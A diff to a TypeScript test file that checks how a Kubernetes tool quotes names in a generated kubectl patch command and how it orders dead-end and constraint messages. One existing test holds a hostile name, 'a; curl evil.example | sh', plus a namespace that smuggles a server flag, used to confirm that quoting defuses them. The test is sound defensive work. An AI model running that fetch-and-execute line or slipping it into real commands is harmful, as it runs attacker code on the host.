@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
-import { patchCommand } from './side'
+import type { DeadEnd } from '@/lib/contract/steps'
+import { obstacles, patchCommand } from './side'
 
 const shoot = { namespace: 'garden-payments', name: 'checkout-prod' }
 const advice = { kind: 'do' as const, title: '', text: '' }
@@ -23,4 +24,45 @@ test('a name that a shell would run is one word of the command', () => {
   expect(patchCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
     `kubectl -n server=https://evil.example patch shoot 'a; curl evil.example | sh' --type merge -p '{}'`,
   )
+})
+
+const end: DeadEnd = {
+  kind: 'minor-gap',
+  rule: null,
+  component: 'controlPlane',
+  pool: null,
+  image: null,
+  version: '1.31.14',
+  to: null,
+  began: null,
+  since: '2026-11-21T21:00:00Z',
+  until: null,
+  blocksAll: false,
+  text: 'the profile lists no version of 1.32',
+}
+const line = (severity: 'info' | 'warning' | 'bad', text: string) => ({ severity, text })
+const told = (given: Parameters<typeof obstacles>[0]) => {
+  const { lead, side } = obstacles(given)
+  return [lead.map(({ text }) => text), side.map(({ text }) => text)]
+}
+
+test('a dead end stands for the constraint that only tells the fact', () => {
+  expect(told({ constraints: [line('bad', 'it is stuck'), line('info', 'hibernated')], deadEnds: [end] })).toEqual([
+    [end.text],
+    ['hibernated'],
+  ])
+})
+
+test('without one the constraint is told', () => {
+  expect(told({ constraints: [line('bad', 'it is stuck')], deadEnds: [] })).toEqual([['it is stuck'], []])
+})
+
+test('more warnings than are read go beside the forecast, never what is bad', () => {
+  const warnings = ['a', 'b', 'c', 'd'].map((text) => line('warning', text))
+  expect(told({ constraints: warnings, deadEnds: [end] })).toEqual([
+    [end.text, 'a', 'b'],
+    ['c', 'd'],
+  ])
+  const four = [1, 2, 3, 4].map((n) => ({ ...end, text: `end ${n}` }))
+  expect(told({ constraints: warnings, deadEnds: four })[0]).toHaveLength(4)
 })
